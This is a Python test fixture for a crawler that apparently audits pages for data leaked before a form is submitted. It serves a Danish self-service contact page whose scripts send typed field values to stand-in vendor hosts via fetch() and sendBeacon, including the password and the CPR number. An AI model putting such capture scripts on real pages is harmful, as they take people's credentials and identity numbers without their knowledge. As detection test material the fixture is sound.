"""A self-service page whose scripts send what the citizen types, before any submit: a
form-analytics script (each field's value as it is typed), a session replay (every input event,
sent in one beacon as the page is left), and a chat widget in a cross-origin frame (its textarea
on change). The page also has a password, a file input and a form that must never be submitted.
"""

from __future__ import annotations

from crawler.testing.holes import PORTAL
from crawler.testing.sites import Response, SiteServer

FORM = """<!doctype html><title>Kontakt</title>
<form id=contact action="/submitted" method=post>
<label>CPR-nummer <input id=cpr name=cpr maxlength=10></label>
<label>Søg <input type=search name=q></label>
<label>E-mail <input type=email name=mail></label>
<label>Adgangskode <input type=password id=pw name=pw></label>
<input type=file name=upload>
<textarea name=besked placeholder="Din besked"></textarea>
<div contenteditable id=note></div>
<button>Send</button>
</form>
<iframe src="http://widget.chatvendor.test/frame" width=300 height=120></iframe>
<script>
// form analytics: each field's value as it is typed (debounced), passwords included if any
let timer;
document.addEventListener("input", (event) => {
  const el = event.target;
  clearTimeout(timer);
  timer = setTimeout(() => fetch("http://collect.formvendor.test/f", {method: "POST",
    mode: "no-cors", body: JSON.stringify({field: el.name || el.id,
    value: el.value ?? el.textContent, pw: document.getElementById("pw").value})}), 200);
});
// session replay: every input event, sent once as the page is left
const events = [];
document.addEventListener("input", (e) => events.push({t: e.target.name || e.target.id,
  v: e.target.value ?? e.target.textContent}));
addEventListener("pagehide", () => navigator.sendBeacon("http://rec.replayvendor.test/b",
  JSON.stringify(events)));
</script>"""
FRAME = """<!doctype html><textarea id=chat aria-label="Skriv til os"></textarea><script>
document.getElementById("chat").addEventListener("change", (e) =>
  fetch("http://api.chatvendor.test/draft?text=" + encodeURIComponent(e.target.value),
    {mode: "no-cors"}));
</script>"""


def routes() -> dict:
    return {
        f"{PORTAL}/kontakt": Response(FORM),
        "widget.chatvendor.test/frame": Response(FRAME),
    }


def typed_pages() -> SiteServer:
    return SiteServer(routes())
